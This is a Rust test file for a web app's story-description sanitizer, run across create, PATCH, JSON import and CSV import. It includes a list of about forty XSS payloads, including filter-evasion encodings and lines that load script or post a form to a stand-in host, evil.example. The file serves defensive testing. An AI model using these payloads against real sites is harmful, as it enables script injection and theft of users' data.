//! Story descriptions are sanitized on write (PROTOCOL.md section 1): a battery of XSS payloads
//! through every way in (create, PATCH, JSON and CSV import), and ordinary formatting that
//! must survive.

use serde_json::{json, Value};

use crate::support::admin::{assert_harmless, csv_field, html_tags, id_of, AdminHttp};
use crate::support::{Backend, Server};

both_backends!(
    descriptions_are_sanitized_on_create,
    descriptions_are_sanitized_on_patch,
    descriptions_are_sanitized_on_json_import,
    descriptions_are_sanitized_on_csv_import,
    ordinary_formatting_survives_every_way_in,
);

/// Payloads that try to run script, each with a marker text that must not matter.
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=\"module\">import('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<p style=\"width:expression(alert(1))\">ie</p>",
    "<div onclick=\"alert(1)\">click</div>",
    "<p OnMouseOver=alert(1)>hover</p>",
    "<body onload=alert(1)>",
    "<form action=\"https://evil.example/steal\"><input name=p></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">mixed</a>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=alert(1)>x</marquee>",
];

fn assert_sanitized(description: &Value, payload: &str, how: &str) {
    let html = description
        .as_str()
        .unwrap_or_else(|| panic!("{how}: the description is a string: {description}"));
    assert_harmless(html, &format!("{how} {payload:?}"));
}

async fn descriptions_are_sanitized_on_create(backend: Backend) {
    let server = Server::start(backend).await;
    let admin = server.admin().await;
    let session = server.create_session("Sprint", &[]).await;
    for (i, payload) in XSS.iter().enumerate() {
        let story = admin
            .post(
                &format!("/api/sessions/{}/stories", session.id),
                json!({"ticket_number": format!("X-{i}"), "description": payload}),
            )
            .await
            .expect_status(201, &format!("create a story with {payload:?}"));
        assert_sanitized(&story["description"], payload, "created with");
        // What is stored is what was answered.
        let stored = server.story(id_of(&story)).await;
        assert_eq!(stored["description"], story["description"]);
    }
}

async fn descriptions_are_sanitized_on_patch(backend: Backend) {
    let server = Server::start(backend).await;
    let admin = server.admin().await;
    let session = server.create_session("Sprint", &[("S-1", "one")]).await;
    let path = format!("/api/stories/{}", session.stories[0].id);
    for payload in XSS {
        let story = admin
            .patch_json(&path, json!({"description": payload}))
            .await
            .expect_status(200, &format!("PATCH the description to {payload:?}"));
        assert_sanitized(&story["description"], payload, "patched with");
        let stored = admin.get(&path).await.expect_status(200, "GET");
        assert_eq!(stored["description"], story["description"]);
    }
}

async fn descriptions_are_sanitized_on_json_import(backend: Backend) {
    let server = Server::start(backend).await;
    let admin = server.admin().await;
    let session = server.create_session("Sprint", &[]).await;
    let rows: Vec<Value> = XSS
        .iter()
        .enumerate()
        .map(|(i, p)| json!({"ticket_number": format!("X-{i}"), "description": p}))
        .collect();
    let created = admin
        .post(
            &format!("/api/sessions/{}/stories/import", session.id),
            Value::Array(rows),
        )
        .await
        .expect_status(201, "import the payloads as JSON");
    let created = created.as_array().expect("a list");
    assert_eq!(created.len(), XSS.len());
    for (story, payload) in created.iter().zip(XSS) {
        assert_sanitized(&story["description"], payload, "imported (JSON) with");
    }
    for story in server.stories(session.id).await {
        let i: usize = story["ticket_number"].as_str().expect("a ticket")[2..]
            .parse()
            .expect("X-<n>");
        assert_sanitized(
            &story["description"],
            XSS[i],
            "stored after a JSON import of",
        );
    }
}

async fn descriptions_are_sanitized_on_csv_import(backend: Backend) {
    let server = Server::start(backend).await;
    let admin = server.admin().await;
    let session = server.create_session("Sprint", &[]).await;
    let mut csv = String::from("ticket_number,title,description\n");
    for (i, payload) in XSS.iter().enumerate() {
        csv.push_str(&format!("X-{i},,{}\n", csv_field(payload)));
    }
    let created = admin
        .post_raw(
            &format!("/api/sessions/{}/stories/import", session.id),
            &csv,
            "text/csv",
        )
        .await
        .expect_status(201, "import the payloads as CSV");
    let created = created.as_array().expect("a list");
    assert_eq!(created.len(), XSS.len(), "one story per payload");
    for (story, payload) in created.iter().zip(XSS) {
        assert_sanitized(&story["description"], payload, "imported (CSV) with");
    }
}

/// Formatting a description may use; each must come back as it went in (links may gain a `rel`).
const FORMATTING: &str =
    "<p>Hello <strong>bold</strong> and <em>italic</em>, <b>b</b> <i>i</i></p>\
<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>\
<p><a href=\"https://example.com/docs?a=1&amp;b=2\">the docs</a> and <code>let x = 1;</code></p>\
<pre><code>fn main() {}</code></pre><blockquote>quoted</blockquote><h2>Heading</h2>\
<p>line<br>break</p>";

fn assert_formatting_kept(description: &Value, how: &str) {
    let html = description
        .as_str()
        .unwrap_or_else(|| panic!("{how}: the description is a string: {description}"));
    for kept in [
        "<p>Hello <strong>bold</strong> and <em>italic</em>, <b>b</b> <i>i</i></p>",
        "<ul><li>one</li><li>two</li></ul>",
        "<ol><li>first</li></ol>",
        "<code>let x = 1;</code>",
        "<pre><code>fn main() {}</code></pre>",
        "<blockquote>quoted</blockquote>",
        "<h2>Heading</h2>",
        ">the docs</a>",
        "line<br>break",
    ] {
        assert!(
            html.contains(kept),
            "{how}: {kept:?} survives sanitizing, got {html}"
        );
    }
    let link = html_tags(html)
        .into_iter()
        .find(|t| t.name == "a" && !t.closing)
        .unwrap_or_else(|| panic!("{how}: the link survives: {html}"));
    assert!(
        link.attributes
            .iter()
            .any(|(n, v)| n == "href" && v == "https://example.com/docs?a=1&b=2"),
        "{how}: the link keeps its https href: {html}"
    );
    assert_harmless(html, how);
}

async fn ordinary_formatting_survives_every_way_in(backend: Backend) {
    let server = Server::start(backend).await;
    let admin = server.admin().await;
    let session = server.create_session("Sprint", &[("S-1", "")]).await;
    let created = admin
        .post(
            &format!("/api/sessions/{}/stories", session.id),
            json!({"ticket_number": "F-1", "description": FORMATTING}),
        )
        .await
        .expect_status(201, "create with formatting");
    assert_formatting_kept(&created["description"], "create");
    let patched = admin
        .patch_json(
            &format!("/api/stories/{}", session.stories[0].id),
            json!({"description": FORMATTING}),
        )
        .await
        .expect_status(200, "patch with formatting");
    assert_formatting_kept(&patched["description"], "PATCH");
    let imported = admin
        .post(
            &format!("/api/sessions/{}/stories/import", session.id),
            json!([{"ticket_number": "F-2", "description": FORMATTING}]),
        )
        .await
        .expect_status(201, "JSON import with formatting");
    assert_formatting_kept(&imported[0]["description"], "JSON import");
    let imported = admin
        .post_raw(
            &format!("/api/sessions/{}/stories/import", session.id),
            &format!("F-3,,{}\n", csv_field(FORMATTING)),
            "text/csv",
        )
        .await
        .expect_status(201, "CSV import with formatting");
    assert_formatting_kept(&imported[0]["description"], "CSV import");
    // Plain text stays text (escaped where HTML needs it).
    let plain = admin
        .post(
            &format!("/api/sessions/{}/stories", session.id),
            json!({"ticket_number": "F-4", "description": "Just words, no markup."}),
        )
        .await
        .expect_status(201, "plain text");
    assert_eq!(plain["description"], "Just words, no markup.");
}
